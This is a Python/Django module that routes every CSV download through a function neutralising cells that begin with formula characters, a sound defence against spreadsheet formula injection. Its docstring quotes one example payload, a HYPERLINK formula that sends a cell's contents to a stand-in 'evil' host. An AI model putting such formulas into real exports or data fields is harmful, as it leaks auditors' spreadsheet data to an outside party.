"""Every CSV the product writes goes through here, so that no cell can become a spreadsheet formula.

A cell whose text starts with `= + - @` (or a tab, CR, LF or NUL, which some spreadsheets skip before
deciding) is a formula to Excel, LibreOffice and Google Sheets: `=HYPERLINK("https://evil/?"&A1)` in a VM
name or an audit message would run in the auditor's spreadsheet. Such a cell gets a leading `'`, which
spreadsheets show as text and do not display.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def neutralise(value: object) -> str:
    text = "" if value is None else str(value)
    # Leading spaces are skipped by some spreadsheets before they look for a formula.
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _Echo:
    def write(self, value: str) -> str:
        return value


def rows_as_csv(header: Iterable[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The header and each row as CSV text, one line at a time (for a streamed download)."""
    writer = csv.writer(_Echo())
    yield writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        yield writer.writerow([neutralise(cell) for cell in row])


def csv_download(
    header: Iterable[str], rows: Iterable[Iterable[object]], filename: str
) -> StreamingHttpResponse:
    """A streamed CSV attachment: `rows` may be a lazy iterator over a long queryset."""
    response = StreamingHttpResponse(rows_as_csv(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
